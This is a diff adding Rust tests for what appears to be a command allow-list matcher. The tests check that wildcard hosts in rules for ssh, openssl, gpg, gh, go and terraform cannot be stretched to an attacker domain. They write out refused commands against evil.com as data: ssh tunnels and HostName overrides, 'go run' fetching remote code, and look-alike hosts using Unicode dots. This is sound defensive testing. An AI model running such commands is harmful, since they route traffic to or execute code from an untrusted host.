@@ -1,0 +1,145 @@
+//! Hosts in options and behind subcommands: a star in one stays in it, and a star at the end opens no other one.
+
+use super::*;
+
+/// Checks rules with a star in the host `NAME`: of a call it stands for a part of the name, and for no dot.
+#[track_caller]
+fn keeps_to_host(rules: &[(&str, &str)]) {
+    for (rule, name) in rules {
+        let call = |host: &str| rule.replace(&format!("{}*", name.trim_end_matches('1')), host);
+        assert!(!call(name).contains('*'), "{rule}");
+        let refused =
+            ["NAME.evil.com", "NAME.evil", "NAME.", "NAME\u{3002}evil\u{3002}com", "NAME\u{2488}evil", "NAME@evil"]
+                .map(|host| call(&host.replace("NAME", name)));
+        families(&[(rule, &[&call(name)], &refused.each_ref().map(String::as_str))]);
+    }
+}
+
+#[test]
+fn a_star_in_the_host_of_an_option_stays_in_it() {
+    keeps_to_host(&[
+        ("gh pr list --repo git-*/acme/x", "git-1"),
+        ("gh pr list --repo=git-*/acme/x", "git-1"),
+        ("gh pr list -R git-*/acme/x", "git-1"),
+        ("gh pr list -R git.acme*/acme/x", "git.acme1"),
+        ("gh pr list -Rgit-*/acme/x", "git-1"),
+        ("gh repo clone git.acme*/acme/x", "git.acme1"),
+        ("gpg --keyserver hkps://keys-*:443 --recv-keys 1", "keys-1"),
+        ("gpg --keyserver keys-* --recv-keys 1", "keys-1"),
+        ("gpg --keyserver=keys-* --recv-keys 1", "keys-1"),
+        ("openssl s_client --connect web-*:443", "web-1"),
+        ("openssl s_client -connect web-*", "web-1"),
+        ("openssl s_client -connect web-*:443", "web-1"),
+        ("openssl s_client -connect=web-*:443", "web-1"),
+        ("openssl s_client -host web-* -port 443", "web-1"),
+        ("openssl s_client -proxy web-*:80 -connect acme.com:443", "web-1"),
+        ("openssl s_client -quiet -connect web-*:443", "web-1"),
+        ("openssl s_client web-*:443", "web-1"),
+        ("scp -o HostName=web-* notes.md web:", "web-1"),
+        ("sftp -o HostName=web-* web", "web-1"),
+        ("ssh -D web-*:80 bot", "web-1"),
+        ("ssh -L 80:web-*:80 bot", "web-1"),
+        ("ssh -L80:web-*:80 bot", "web-1"),
+        ("ssh -NL 80:web-*:80 bot", "web-1"),
+        ("ssh -R 80:web-*:80 bot", "web-1"),
+        ("ssh -W web-* bot", "web-1"),
+        ("ssh -W web-*:22 bot", "web-1"),
+        ("ssh -o HostName=web-* bot uptime", "web-1"),
+        ("ssh -o hostname=web-* bot uptime", "web-1"),
+        ("ssh -oHostName=web-* bot uptime", "web-1"),
+        ("ssh -oProxyJump=web-* bot uptime", "web-1"),
+        ("ssh -vo HostName=web-* bot uptime", "web-1"),
+    ]);
+    families(&[
+        ("gh pr list -R *", &["gh pr list -R acme/x.js"], &[]),
+        ("gh pr list -R acme*", &[], &["gh pr list -R acme.evil.com/x/y"]),
+        ("gh pr list -R acme/*", &["gh pr list -R acme/x.js"], &["gh pr list -R acme/x/y"]),
+        ("gh pr list -R acme/x-*", &["gh pr list -R acme/x-1.js"], &[]),
+        ("gh pr list -R git-*.acme.com/acme/x", &["gh pr list -R git-1.eu.acme.com/acme/x"], &[]),
+        ("gh repo clone acme*/x", &["gh repo clone acme-1/x"], &["gh repo clone acme.evil.com/a/x"]),
+        ("gpg --keyserver *.acme.com --recv-keys 1", &["gpg --keyserver a.b.acme.com --recv-keys 1"], &[]),
+        (
+            "gpg --keyserver a --recv-keys *",
+            &["gpg --keyserver a --recv-keys 1"],
+            &[
+                "gpg --keyserver a --recv-keys 1 --keyserver evil.com",
+                "gpg --keyserver a --recv-keys 1 --keyserver=evil.com",
+            ],
+        ),
+        ("openssl s_client -connect *.acme.com:443", &["openssl s_client -connect a.b.acme.com:443"], &[]),
+        ("openssl s_client -connect *:443", &["openssl s_client -connect a.b.com:443"], &[]),
+        (
+            "openssl s_client -connect 10.0.0.*:443",
+            &["openssl s_client -connect 10.0.0.7:443"],
+            &["openssl s_client -connect 10.0.0.evil.com:443"],
+        ),
+        (
+            "openssl s_client -connect web-*",
+            &["openssl s_client -connect web-1:443"],
+            &[
+                "openssl s_client -connect web-1:443 -connect evil.com:443",
+                "openssl s_client -connect web-1:443 -proxy evil.com:443",
+                "openssl s_client -connect web-1:443 evil.com:443",
+            ],
+        ),
+        ("ssh -L 80:10.0.0.*:80 bot", &["ssh -L 80:10.0.0.7:80 bot"], &["ssh -L 80:10.0.0.evil.com:80 bot"]),
+        ("ssh -L 80:web-*:80 bot", &[], &["ssh -L 80:web-1:80:evil.com:80 bot"]),
+        (
+            "ssh -L 80:h* bot",
+            &["ssh -L 80:h1:80 bot"],
+            &["ssh -L 80:http:evil.com:80 bot", "ssh -L 80:h1/evil.com bot", "ssh -L 80:h1:80/evil.com bot"],
+        ),
+        ("ssh -L 80:web:* bot", &["ssh -L 80:web:443 bot"], &[]),
+        ("ssh -W web-* bot", &["ssh -W web-1:22 bot"], &[]),
+        ("ssh -o ConnectTimeout=* bot uptime", &["ssh -o ConnectTimeout=5 bot uptime"], &[]),
+        ("ssh -o HostName=*.acme.com bot uptime", &["ssh -o HostName=a.b.acme.com bot uptime"], &[]),
+        ("ssh -o HostName\\ web-* bot uptime", &[], &["ssh -o HostName␣web-1.evil.com bot uptime"]),
+        ("ssh bot *", &["ssh bot uptime"], &[]),
+        (
+            "ssh bot-*",
+            &["ssh bot-1"],
+            &[
+                "ssh -o HostName=evil.com bot-1",
+                "ssh bot-1 -L 80:evil.com:80",
+                "ssh bot-1 -W evil.com:22",
+                "ssh bot-1 -o HostName=evil.com",
+                "ssh bot-1 -oHostName=evil.com ls",
+            ],
+        ),
+    ]);
+}
+
+#[test]
+fn a_star_in_the_host_behind_a_subcommand_stays_in_it() {
+    keeps_to_host(&[
+        ("go get git-*/x", "git-1"),
+        ("go get git-*/x@v1.2.0", "git-1"),
+        ("go get git.acme*", "git.acme1"),
+        ("go install git-*", "git-1"),
+        ("go install git-*/x@latest", "git-1"),
+        ("go install git.acme*/x@latest", "git.acme1"),
+        ("go mod download git-*/x", "git-1"),
+        ("go run git-*/x@latest", "git-1"),
+        ("go run git.acme*", "git.acme1"),
+        ("terraform login web-*", "web-1"),
+        ("terraform logout web-*", "web-1"),
+        ("tofu login web-*", "web-1"),
+    ]);
+    families(&[
+        ("go get *.acme.com/x", &["go get git.acme.com/x"], &[]),
+        ("go get git.acme.com*", &["go get git.acme.com/x.js@v1.2"], &["go get git.acme.com.evil.com/x"]),
+        ("go get github.com/acme/*", &["go get github.com/acme/x.js@v1.2"], &["go get github.com/acme/x evil.com/y"]),
+        ("go -C run get git-*/x", &["go -C run get git-1/x"], &["go -C run get git-1.evil.com/x"]),
+        ("go get acme.com/x git-*/y", &["go get acme.com/x git-1/y"], &["go get acme.com/x git-1.evil.com/y"]),
+        ("go get git-*/*", &["go get git-1/x git-1/y"], &["go get git-1/x git-1.evil.com/y"]),
+        ("go install ./cmd/*", &["go install ./cmd/x.y"], &[]),
+        ("go run *.go", &["go run main.go"], &[]),
+        ("go run ./cmd-*", &["go run ./cmd-1.x"], &[]),
+        (
+            "go run ma*",
+            &["go run main.go", "go run ma"],
+            &["go run ma.evil.com/x@latest", "go run ma.evil.com/x.go@v1"],
+        ),
+        ("terraform login *.acme.com", &["terraform login a.b.acme.com"], &[]),
+    ]);
+}
